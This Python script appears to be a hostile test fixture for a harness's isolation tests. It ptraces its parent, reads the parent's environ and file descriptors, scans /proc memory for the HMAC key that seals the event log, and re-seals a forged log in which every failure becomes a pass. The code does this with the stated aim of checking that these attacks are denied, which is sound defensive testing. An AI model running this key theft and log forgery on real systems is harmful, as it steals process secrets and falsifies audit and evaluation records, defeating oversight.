#!/usr/bin/env python3
"""An adapter that answers every call wrongly, steals the key that seals the
run's event log from the harness's memory, and re-seals a forged log.

The run's spool (`events.jsonl` in the run directory, two levels above the
adapter's `TMPDIR`) is sealed line by line with an HMAC-SHA256 under a key
that exists only in the harness process. An adapter runs as the harness's
user (root in CI, with every capability), so it tries what such a process
can try against its parent, the harness:

  ptrace   PTRACE_SEIZE on the harness (released again at once);
  environ  read /proc/PPID/environ;
  fd       follow /proc/PPID/fd/N, the harness's open files (its spool);
  mem      read /proc/PPID/mem, every private writable mapping, and test
           each 32-byte window as the key against the seal of the spool's
           first line (what issue 21's audit did: the key was found after
           about 4,500 candidates).

With the key, on `bye` it rewrites the spool with every `fail` and
`adapter_error` made a `pass`, each line sealed again, so the harness would
read back a spool that verifies. Each attempt and its outcome is appended
to `$STEAL_LOG` as `WHAT: allowed` or `WHAT: denied (ERROR)`, so the test
knows the attack was really made and what stopped it. Calls are forwarded
to the reference (`$TOOLPATH_BIN serve`) and every answer turned into a
wrong one, so every case it answers fails honestly.

Derived from the audit's keythief.py (issue 21, item 3).

usage: steal_key.py
"""

import ctypes
import hashlib
import hmac
import json
import os
import struct
import subprocess
import sys

PTRACE_SEIZE = 0x4206


def note(text):
    log = os.environ.get("STEAL_LOG")
    if not log:
        return
    try:
        with open(log, "a") as out:
            out.write(text + "\n")
    except OSError:
        # As `nobody` (the permission cases' copy) the log is not writable.
        pass


def attempt(what, action):
    try:
        result = action()
    except OSError as e:
        note(f"{what}: denied ({e.strerror or e})")
        return None
    note(f"{what}: allowed")
    return result


def seize(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_SEIZE, pid, 0, 0) != 0:
        errno = ctypes.get_errno()
        raise OSError(errno, os.strerror(errno))
    # The harness stays running (SEIZE does not stop it); the tracer's exit
    # detaches it.
    return True


def find_key(pid, first_line, seal):
    """The 32 bytes in the harness's memory that seal `first_line` at 0."""
    target = bytes.fromhex(seal)
    message = struct.pack("<Q", 0) + first_line
    with open(f"/proc/{pid}/maps") as f:
        maps = f.read().splitlines()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for entry in maps:
            parts = entry.split()
            if "rw" not in parts[1]:
                continue
            name = parts[5] if len(parts) > 5 else ""
            if name and not name.startswith(("[heap", "[anon", "[stack")):
                continue
            start, end = [int(x, 16) for x in parts[0].split("-")]
            if end - start > 256 << 20:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except OSError:
                continue
            for i in range(len(data) - 32):
                window = data[i:i + 32]
                if window.count(0) > 2 or len(set(window)) < 22:
                    continue
                if hmac.new(window, message, hashlib.sha256).digest() == target:
                    return window
    return None


def steal(harness, spool):
    attempt("ptrace", lambda: seize(harness))
    attempt("environ", lambda: open(f"/proc/{harness}/environ", "rb").read())
    attempt("fd", lambda: [os.readlink(f"/proc/{harness}/fd/{fd}")
                           for fd in os.listdir(f"/proc/{harness}/fd")])
    with open(spool, "rb") as f:
        first = f.readline().rstrip(b"\n")
    line, seal = first.rsplit(b"\t", 1)
    key = attempt("mem", lambda: find_key(harness, line, seal.decode()))
    note(f"key found: {key is not None}")
    return key


def reseal(spool, key):
    with open(spool, "rb") as f:
        lines = [l for l in f.read().split(b"\n") if l]
    out = []
    for seq, line in enumerate(lines):
        js = line.rsplit(b"\t", 1)[0]
        for status in (b"fail", b"adapter_error"):
            js = js.replace(b'"status":"' + status + b'"', b'"status":"pass"')
        seal = hmac.new(key, struct.pack("<Q", seq) + js, hashlib.sha256).hexdigest()
        out.append(js + b"\t" + seal.encode())
    with open(spool, "r+b") as f:
        f.seek(0)
        f.truncate()
        f.write(b"\n".join(out) + b"\n")
    note(f"re-sealed {len(out)} lines")


def same_user(pid):
    """Whether this process runs as the harness's user (not as the copy
    that permission cases run as `nobody`)."""
    with open(f"/proc/{pid}/status") as f:
        uid = next(l for l in f if l.startswith("Uid:")).split()[2]
    return int(uid) == os.geteuid()


def wrong(answer):
    return {"type": "result", "seq": answer["seq"], "outcome": "error",
            "error": {"code": "invalid_params", "message": "wrong"}}


def main():
    harness = os.getppid()
    run_dir = os.path.dirname(os.path.dirname(os.environ["TMPDIR"]))
    spool = os.path.join(run_dir, "events.jsonl")
    reference = subprocess.Popen([os.environ["TOOLPATH_BIN"], "serve"],
                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    key, tried = None, False
    for line in sys.stdin:
        message = json.loads(line)
        if message["type"] == "call" and not tried and same_user(harness):
            # The spool has its `start` line by the first call.
            tried = True
            key = steal(harness, spool)
        if message["type"] == "bye":
            if key:
                reseal(spool, key)
            break
        reference.stdin.write(line)
        reference.stdin.flush()
        answer = json.loads(reference.stdout.readline())
        if message["type"] == "call":
            answer = wrong(answer)
        sys.stdout.write(json.dumps(answer) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
